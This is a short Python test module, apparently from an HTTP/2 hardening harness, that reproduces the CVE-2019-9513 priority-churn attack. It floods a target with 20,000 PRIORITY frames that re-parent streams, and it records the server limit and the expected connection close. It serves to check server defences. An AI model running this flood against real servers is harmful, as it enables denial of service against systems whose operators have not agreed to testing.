"""Priority churn (CVE-2019-9513): a tree of streams that is turned over and over."""

import struct

from frames import PRIORITY, flood, frame

LIMIT = "`floodFramesBurst` 1,000, then `floodFramesPerSecond` 100"
RULE = "closed within 1 s"


def run(target):
    frames = [
        frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0x8000_0000 | 2 * (number % 97), 255))
        for number in range(100, 20_100)]
    pieces = [(b"".join(frames[first:first + 200]), 200) for first in range(0, len(frames), 200)]
    return flood(target, b"", pieces, 1_000)
